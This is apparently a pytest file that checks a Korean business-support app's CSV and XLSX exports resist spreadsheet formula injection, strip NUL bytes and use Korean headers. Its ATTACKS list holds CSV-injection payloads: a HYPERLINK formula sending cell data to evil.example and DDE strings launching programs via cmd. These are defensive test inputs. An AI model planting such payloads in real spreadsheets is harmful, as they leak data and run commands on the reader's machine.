"""Exports that cannot be turned against their reader, readable headers, and files that
still import back as they are."""
import csv
import re
import sqlite3
import zipfile

from openpyxl import load_workbook

from campdesk.cli import main
from campdesk.services import companies, consultations
from campdesk.services.exporter import export, table_names
from campdesk.services.importer import import_companies

ATTACKS = [
    '=HYPERLINK("http://evil.example/?d="&A2,"클릭")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)*cmd|' /C notepad'!B1",
    "-2+3+cmd|' /C explorer'!A0",
    "@SUM(A1)",
]
UUID = re.compile(r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}")
GENUINE = ["-12.5", "+82 10 1234 5678", "-", "(062) 123-4567"]


def _read_csv(path):
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def test_text_that_would_run_as_a_formula_is_exported_as_text(staffed_ctx, tmp_path):
    for i, name in enumerate(ATTACKS):
        companies.create_company(staffed_ctx, {"name": name, "employees": 10 + i,
                                               "notes": GENUINE[i % len(GENUINE)]})
    companies.create_company(staffed_ctx, {"name": "빛고을AI", "phone": "062-123-4567",
                                           "representative": GENUINE[0], "notes": GENUINE[1]})
    # CSV: OWASP's leading apostrophe before a formula; numbers and phone numbers unchanged.
    export(staffed_ctx, "companies", tmp_path / "c.csv")
    rows = _read_csv(tmp_path / "c.csv")
    header = rows[0]
    by_name = {r[0]: dict(zip(header, r)) for r in rows[1:]}
    assert set(by_name) == {"'" + a for a in ATTACKS} | {"빛고을AI"}
    plain = by_name["빛고을AI"]
    assert (plain["전화번호"], plain["대표자"], plain["메모"]) == ("062-123-4567", "-12.5", "+82 10 1234 5678")
    assert {r["메모"] for n, r in by_name.items() if n != "빛고을AI"} <= set(GENUINE)
    assert {by_name["'" + ATTACKS[0]]["직원 수"]} == {"10"}
    # XLSX: string cells, never a formula.
    export(staffed_ctx, "companies", tmp_path / "c.xlsx")
    with zipfile.ZipFile(tmp_path / "c.xlsx") as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    ws = load_workbook(tmp_path / "c.xlsx")["companies"]
    cells = {row[0].value: row for row in ws.iter_rows(min_row=2)}
    assert set(cells) == set(ATTACKS) | {"빛고을AI"}
    assert all(cells[a][0].data_type == "s" for a in ATTACKS)
    # Both files import back as they were: no company renamed, none added.
    for out in ("c.csv", "c.xlsx"):
        report = import_companies(staffed_ctx, tmp_path / out)
        assert (report.created, report.updated, report.unchanged, report.rejected) == (0, 0, 6, [])
    assert sorted(r.name for r in companies.list_companies(staffed_ctx)) == sorted(ATTACKS + ["빛고을AI"])


def test_a_nul_in_any_text_field_does_not_break_the_xlsx_export(staffed_ctx, tmp_path):
    """A NUL can reach the database past the forms (an old version, another program, a
    synced row): every export still works, without it."""
    company_id = companies.create_company(staffed_ctx, {"name": "빛고을AI"})
    consultations.log_consultation(staffed_ctx, {"channel": "phone", "company_id": company_id,
                                                 "question": "입주 문의"})
    with sqlite3.connect(staffed_ctx.paths.database) as conn:
        conn.execute("UPDATE companies SET notes = 'A' || char(0) || 'B' || char(11) || 'C'")
        conn.execute("UPDATE consultations SET question = '입주' || char(0) || ' 문의'")
    home = str(staffed_ctx.paths.database.parent)
    staffed_ctx.close()
    assert main(["--home", home, "export", "--all", str(tmp_path / "all.xlsx")]) == 0
    assert main(["--home", home, "export", "companies", str(tmp_path / "c.xlsx")]) == 0
    assert main(["--home", home, "export", "--all", str(tmp_path / "csv")]) == 0
    wb = load_workbook(tmp_path / "all.xlsx", read_only=True)
    header, row = wb["companies"].iter_rows(values_only=True)
    assert dict(zip(header, row))["메모"] == "ABC"
    header, row = wb["consultations"].iter_rows(values_only=True)
    assert dict(zip(header, row))["상담 내용"] == "입주 문의"
    assert b"\x00" not in (tmp_path / "csv" / "companies.csv").read_bytes()


def test_every_exported_column_has_a_korean_header_and_the_ids_come_last(staffed_ctx, tmp_path):
    company_id = companies.create_company(staffed_ctx, {"name": "빛고을AI"})
    consultations.log_consultation(staffed_ctx, {"channel": "phone", "company_id": company_id,
                                                 "question": "입주 문의"})
    export(staffed_ctx, None, tmp_path / "all")
    for table in table_names():
        rows = _read_csv(tmp_path / "all" / f"{table}.csv")
        header = rows[0]
        assert all(re.search("[가-힣]", h) for h in header), (table, header)
        assert len(set(header)) == len(header), table
        assert header[-1] == "식별자", table
        for values in rows[1:]:  # once a column holds an id, every later one does
            first = next(i for i, v in enumerate(values) if UUID.fullmatch(v))
            assert all(v == "" or UUID.fullmatch(v) for v in values[first:]), (table, header)
    companies_header = _read_csv(tmp_path / "all" / "companies.csv")[0]
    assert companies_header[-4:] == ["보관", "병합된 기업", "수정한 사람", "식별자"]
    assert "등록 일시" in companies_header and "merged_into" not in companies_header
    consultations_header = _read_csv(tmp_path / "all" / "consultations.csv")[0]
    assert consultations_header[:2] == ["일시", "경로"]
    assert consultations_header[-5:] == ["기업", "책임상담사", "담당", "수정한 사람", "식별자"]
